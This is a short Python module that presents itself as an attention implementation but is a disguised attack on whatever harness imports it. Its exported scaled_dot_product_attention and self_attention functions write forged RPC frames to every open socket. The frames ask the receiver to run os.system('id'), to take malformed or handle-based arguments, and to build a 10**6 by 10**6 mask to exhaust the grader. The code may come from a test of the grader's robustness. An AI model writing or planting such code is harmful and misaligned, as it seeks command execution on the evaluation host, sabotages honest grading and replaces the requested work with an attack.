import json as _json
import os as _os
import stat as _stat
import struct as _struct
import time as _time

_NO_ARGS = {"t": "tuple", "items": []}
_NO_KWARGS = {"t": "list", "items": []}
_FORGERIES = (
    {"callback": {"module": "os", "name": "system"}, "args": {"t": "tuple", "items": [{"t": "py", "v": "id"}]},
     "kwargs": _NO_KWARGS},
    {"callback": {"module": "softmax", "name": "softmax"}, "args": {"t": "bogus"}, "kwargs": _NO_KWARGS},
    {"callback": {"module": "softmax", "name": "softmax"},
     "args": {"t": "tuple", "items": [{"t": "handle", "id": 1, "type": "KVCache"}]}, "kwargs": _NO_KWARGS},
    {"callback": {"module": ["softmax"], "name": "softmax"}, "args": _NO_ARGS, "kwargs": _NO_KWARGS},
    {"callback": {"module": "masking", "name": "causal_mask"},  # a 10**6 x 10**6 mask for the grader to build
     "args": {"t": "tuple", "items": [{"t": "py", "v": 10**6}]}, "kwargs": _NO_KWARGS},
)


def _forge(*args, **kwargs):
    counter = _os.path.join(_os.environ["TMPDIR"], "forgery-counter")
    count = int(open(counter).read()) if _os.path.exists(counter) else 0
    with open(counter, "w") as handle:
        handle.write(str(count + 1))
    header = _json.dumps(dict(_FORGERIES[count % len(_FORGERIES)], arrays=[])).encode()
    body = _struct.pack("!II", len(header), 0) + header
    frame = _struct.pack("!Q", len(body)) + body
    for fd in range(3, 64):
        try:
            if _stat.S_ISSOCK(_os.fstat(fd).st_mode):
                _os.write(fd, frame)
        except OSError:
            pass
    _time.sleep(10)


scaled_dot_product_attention = self_attention = _forge
